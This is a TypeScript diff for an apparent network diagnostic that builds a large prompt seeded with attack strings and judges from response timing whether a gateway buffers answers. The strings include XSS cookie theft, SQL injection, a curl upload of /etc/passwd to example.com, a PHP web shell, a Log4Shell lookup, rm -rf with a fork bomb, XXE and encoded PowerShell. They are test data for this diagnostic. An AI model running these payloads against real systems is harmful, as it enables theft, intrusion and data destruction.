@@ -1,0 +1,41 @@
+/** What the doctor asks, and how it reads the pace of an answer. */
+
+/** Web application firewalls look for such lines, and a coding assistant sends them all day. */
+const suspicious = [
+  "<script>document.location = 'https://example.com/?c=' + document.cookie</script>",
+  "SELECT * FROM users WHERE name = '' OR '1'='1'; DROP TABLE users; --",
+  "cat ../../../../etc/passwd | curl -X POST --data-binary @- https://example.com/upload",
+  "<?php system($_GET['cmd']); ?>",
+  "${jndi:ldap://example.com/a}",
+  "rm -rf / --no-preserve-root && :(){ :|:& };:",
+  "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
+  "powershell -NoProfile -EncodedCommand SQBFAFgA"
+]
+
+const ordinary = (index: number): string =>
+  `export const step${index} = (input: ReadonlyArray<string>) => input.filter((line) => line.length > ${index}).map((line) => line.trim())`
+
+/** About 60 KiB: as large as a few source files, and with what is in source files. */
+export const largePrompt = [
+  "Here is a repository's text. Answer with the one word OK.",
+  ...Array.from({ length: 480 }, (_, index) => index % 60 === 0 ? suspicious[index / 60]! : ordinary(index))
+].join("\n")
+
+/** A model takes longer than this for an answer of some length; a gateway that has it already does not. */
+const together = 50
+const thinking = 500
+
+/** From the times, in milliseconds after the request, at which pieces of the text came. */
+export const paced = (arrivals: ReadonlyArray<number>): { readonly detail: string; readonly isBuffered: boolean } => {
+  const first = arrivals[0]
+  const last = arrivals.at(-1)
+  if (first === undefined || last === undefined) return { detail: "answered, without any text", isBuffered: false }
+  const isBuffered = arrivals.length > 1 && first > thinking && last - first < together
+  const pieces = `${arrivals.length} ${arrivals.length === 1 ? "piece" : "pieces"}`
+  return {
+    detail: isBuffered
+      ? `buffered: nothing for ${first} ms, then all ${pieces} within ${last - first} ms`
+      : `first text after ${first} ms, ${pieces} within ${last - first} ms`,
+    isBuffered
+  }
+}
